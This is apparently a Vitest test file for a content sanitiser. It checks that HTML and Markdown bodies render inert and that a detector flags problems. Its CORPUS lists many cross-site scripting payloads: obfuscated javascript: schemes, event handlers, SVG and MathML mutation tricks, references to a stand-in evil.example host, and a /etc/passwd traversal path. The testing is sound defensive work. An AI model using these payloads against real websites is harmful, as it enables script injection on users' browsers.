import { describe, expect, it } from 'vitest';
import {
  bodyProblems,
  paragraphsToMarkdown,
  plainText,
  renderBody,
  UPLOAD_SRC,
  type BodyFormat,
} from './body.ts';

const UPLOAD = `/uploads/${'ab'.repeat(32)}.png`;

/** Attacks a body may carry, as HTML and as Markdown (which lets raw HTML through to the sanitiser). */
const CORPUS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<img src=x onerror=alert(1)>',
  `<img src="${UPLOAD}" onerror="alert(1)">`,
  '<a href="#" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="https://evil.example/tracker.png">',
  '<img src="//evil.example/tracker.png">',
  '<img src="/uploads/../../etc/passwd">',
  `<img src="https://evil.example${UPLOAD}">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="evil.swf"></object>',
  '<embed src="evil.swf">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '<javascript:alert(1)>',
  '![x](https://evil.example/x.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[x](data:text/html,<script>alert(1)</script>)',
];

const ALLOWED_TAGS = new Set(
  'p br h2 h3 h4 ul ol li blockquote strong em b i a img figure figcaption table caption thead tbody tr th td code pre hr sub sup del ins span abbr'.split(
    ' ',
  ),
);

/** Asserts that rendered HTML can run nothing: only allowed tags, no handlers or styles, safe addresses. */
function expectInert(html: string): void {
  for (const m of html.matchAll(/<\/?([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const [, tag = '', attrs = ''] = m;
    expect(ALLOWED_TAGS.has(tag.toLowerCase()), `tag <${tag}> in ${html}`).toBe(true);
    for (const a of attrs.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      const [, name = '', value = ''] = a;
      expect(name.toLowerCase().startsWith('on'), `handler ${name} in ${html}`).toBe(false);
      expect(name.toLowerCase(), html).not.toBe('style');
      if (name === 'href') expect(value, html).toMatch(/^(https?:|mailto:|\/|#|[^:]*$)/i);
      if (name === 'src') expect(value, html).toMatch(UPLOAD_SRC);
    }
  }
  expect(html).not.toMatch(/<\s*(script|style|iframe|svg|math|object|embed|form|base|meta|link)\b/i);
}

describe('renderBody', () => {
  for (const format of ['html', 'markdown'] as BodyFormat[]) {
    it.each(CORPUS)(`renders %s inert (${format})`, (attack) => {
      const html = renderBody(`Before.\n\n${attack}\n\nAfter.`, format);
      expectInert(html);
      expect(html).toContain('Before.');
    });
  }

  it('keeps ordinary Markdown: paragraphs, headings (h1 becomes h2), links, lists and uploaded images', () => {
    const html = renderBody(
      `# Heading\n\nA [link](https://example.org) and *emphasis*.\n\n- one\n- two\n\n![Hall](${UPLOAD})`,
      'markdown',
    );
    expect(html).toContain('<h2>Heading</h2>');
    expect(html).toContain('<a href="https://example.org">link</a>');
    expect(html).toContain('<em>emphasis</em>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain(`<img src="${UPLOAD}" alt="Hall" />`);
    expect(html).not.toContain('<h1');
  });

  it('makes upload addresses absolute for feeds', () => {
    expect(renderBody(`![x](${UPLOAD})`, 'markdown', { absoluteBase: 'https://cp.example' })).toContain(
      `src="https://cp.example${UPLOAD}"`,
    );
  });
});

describe('bodyProblems', () => {
  it.each([
    ['<script>alert(1)</script>', 'script'],
    ['<svg><script>alert(1)</script></svg>', 'script'],
    ['<img src=x onerror=alert(1)>', 'handler'],
    ['<a href="#" onclick="alert(1)">x</a>', 'handler'],
    ['<a href="&#106;avascript:alert(1)">x</a>', 'scheme'],
    ['<a href="java&#x09;script:alert(1)">x</a>', 'scheme'],
    ['[x](javascript:alert(1))', 'scheme'],
    ['<img src="data:image/png;base64,AAAA">', 'scheme'],
    ['![x](https://evil.example/x.png)', 'image'],
    ['<p style="width:expression(alert(1))">x</p>', 'style'],
    ['<iframe src="https://example.org"></iframe>', 'embed'],
  ])('finds %s (%s)', (body, problem) => {
    expect(bodyProblems(body, 'markdown')).toContain(problem);
  });

  it('finds nothing in a clean body', () => {
    const clean = `Para with [a link](https://example.org), [mail](mailto:a@example.org) and ![img](${UPLOAD}).\n\n<span lang="zh-CN">中文</span>`;
    expect(bodyProblems(clean, 'markdown')).toEqual([]);
    expect(bodyProblems('<p>Hello <a href="/en/news">news</a></p>', 'html')).toEqual([]);
  });
});

describe('paragraphsToMarkdown', () => {
  it('renders imported text exactly as text, never as markup', () => {
    const paragraphs = [
      'Plain text with *stars*, _underscores_ and `ticks`.',
      '# not a heading',
      '1. not a list',
      '- not a list either',
      '<script>alert(1)</script> & <b>bold?</b>',
      'A link [x](javascript:alert(1)) www.example.com http://example.com a@example.com',
      'Jilin’ s equipment — “revitalizing Northeast China”',
      '  stray   spaces  ',
    ];
    const html = renderBody(paragraphsToMarkdown(paragraphs), 'markdown');
    const rendered = [...html.matchAll(/<p>(.*?)<\/p>/gs)].map((m) =>
      m[1]!
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&'),
    );
    expect(rendered).toEqual(paragraphs.map((p) => p.replace(/\s+/g, ' ').trim()));
    expect(html).not.toMatch(/<(a|em|strong|code|h\d|ol|ul|b|script)\b/);
  });

  it('gives plain text back for search', () => {
    expect(plainText(paragraphsToMarkdown(['One *a*.', 'Two <b>.']), 'markdown')).toBe(
      'One *a*.\n\nTwo <b>.',
    );
  });
});
